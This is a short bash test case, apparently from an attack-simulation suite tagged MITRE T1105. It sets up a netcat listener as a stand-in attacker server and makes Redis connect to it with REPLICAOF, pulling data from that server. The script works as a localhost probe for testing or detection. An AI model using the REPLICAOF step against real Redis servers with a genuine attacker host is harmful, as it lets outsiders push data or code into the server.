# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1105
about="REPLICAOF fetches a data set from the attacker's server"
before() {
	nc -l 127.0.0.1 6666 >"$state/heard" 2>/dev/null </dev/null &
	listening 6666
}
attack() {
	redis replicaof 127.0.0.1 6666
	perhaps effect
	redis replicaof no one
}
effect() { grep -q PING "$state/heard"; }
